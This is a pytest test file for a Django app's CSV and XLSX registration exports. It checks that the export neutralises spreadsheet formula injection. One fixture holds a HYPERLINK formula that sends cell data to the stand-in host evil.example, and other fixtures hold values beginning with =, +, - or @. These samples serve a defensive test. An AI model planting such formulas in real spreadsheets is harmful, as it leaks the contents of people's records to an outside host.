"""Registrations to CSV and XLSX: everything round-trips, and no cell runs as a formula."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.utils import translation
from openpyxl import load_workbook

from registrations.models import CheckIn
from reports.exports import neutralise, registrations_csv, registrations_xlsx
from tests.ticket_factories import RegistrationFactory, checkin_make

pytestmark = pytest.mark.django_db

HOSTILE_FIRST = "<b>&"
HOSTILE_LAST = "Zoë 🎉 Œuvre"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def registrations(meeting, organiser):
    organiser.first_name, organiser.last_name = "Anne", "Accueil"
    organiser.save()
    hostile = RegistrationFactory(
        meeting=meeting,
        first_name=HOSTILE_FIRST,
        last_name=HOSTILE_LAST,
        organisation=None,
        organisation_name=FORMULA,
        organisation_country="BE",
        function="burgomaster",
        language="nl",
        interpretation_needed=True,
        interpretation_to="fr",
        accessibility_notes="+32 fauteuil; rampe\nsvp",
        dietary_notes="@vegan",
        share_contact=True,
    )
    checkin_make(hostile, by=organiser)
    CheckIn.objects.update(checked_in_at=datetime(2027, 3, 12, 8, 12, tzinfo=ZoneInfo("UTC")))
    waiting = RegistrationFactory(
        meeting=meeting, first_name="-1+1", last_name="Attente", status="waitlisted"
    )
    RegistrationFactory(last_name="Ailleurs")  # another meeting
    return hostile, waiting


def read_csv(payload: bytes) -> list[list[str]]:
    assert payload.startswith(b"\xef\xbb\xbf")
    text = payload.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_neutralise_prefixes_what_a_spreadsheet_would_run():
    for dangerous in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(dangerous) == "'" + dangerous
    for harmless in ("Lille", "Zoë", "", "1", "a=b"):
        assert neutralise(harmless) == harmless


def test_the_csv_round_trips_every_registration_of_the_meeting(meeting, registrations):
    hostile, _waiting = registrations
    with translation.override("en"):
        header, *rows = read_csv(registrations_csv(meeting))

    assert header[:4] == ["last name", "first name", "email", "organisation"]
    assert len(rows) == 2
    by_name = {row[header.index("last name")]: dict(zip(header, row, strict=True)) for row in rows}
    row = by_name[HOSTILE_LAST]
    assert row["first name"] == HOSTILE_FIRST
    assert row["email"] == hostile.email
    assert row["organisation"] == "'" + FORMULA
    assert row["country"] == "Belgium"
    assert row["function"] == "burgomaster"
    assert row["language"] == "nl"
    assert row["status"] == "confirmed"
    assert row["checked in at"] == "2027-03-12 09:12"  # meeting-local
    assert row["checked in by"] == "Anne Accueil"
    assert row["needs interpretation"] == "yes"
    assert row["interpretation into"] == "fr"
    assert row["accessibility needs"] == "'+32 fauteuil; rampe\nsvp"
    assert row["dietary needs"] == "'@vegan"
    assert row["appears in the participants' contact list"] == "yes"
    assert row["privacy consent given at"].startswith("20")
    waiting_row = by_name["Attente"]
    assert waiting_row["first name"] == "'-1+1"
    assert waiting_row["status"] == "on the waiting list"
    assert waiting_row["checked in at"] == ""
    for cells in rows:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@"))


def test_the_csv_headers_follow_the_request_language(meeting, registrations):
    with translation.override("nl"):
        header, *rows = read_csv(registrations_csv(meeting))
    assert header[:2] == ["familienaam", "voornaam"]
    assert len(rows) == 2


def test_the_xlsx_round_trips_text_intact_and_never_as_a_formula(meeting, registrations):
    with translation.override("en"):
        workbook = load_workbook(io.BytesIO(registrations_xlsx(meeting)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    rows = {
        row[0].value: {name: cell for name, cell in zip(header, row, strict=True)}
        for row in sheet.iter_rows(min_row=2)
    }
    assert sheet.max_row == 3
    row = rows[HOSTILE_LAST]
    assert row["first name"].value == HOSTILE_FIRST
    assert row["organisation"].value == FORMULA
    assert row["organisation"].data_type == "s"
    assert row["checked in at"].value == datetime(2027, 3, 12, 9, 12)
    assert row["checked in at"].is_date
    assert row["accessibility needs"].value == "+32 fauteuil; rampe\nsvp"
    assert row["dietary needs"].data_type == "s"
    assert rows["Attente"]["first name"].value == "-1+1"
    assert rows["Attente"]["first name"].data_type == "s"
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f"
    assert sheet.freeze_panes == "A2"


def test_control_characters_do_not_break_the_workbook(meeting):
    RegistrationFactory(meeting=meeting, dietary_notes="sans\x0bgluten\x1f")
    sheet = load_workbook(io.BytesIO(registrations_xlsx(meeting))).active
    assert "sansgluten" in [cell.value for cell in sheet[2]]


def test_the_xml_of_the_workbook_holds_no_formula(meeting, registrations):
    import zipfile

    archive = zipfile.ZipFile(io.BytesIO(registrations_xlsx(meeting)))
    sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
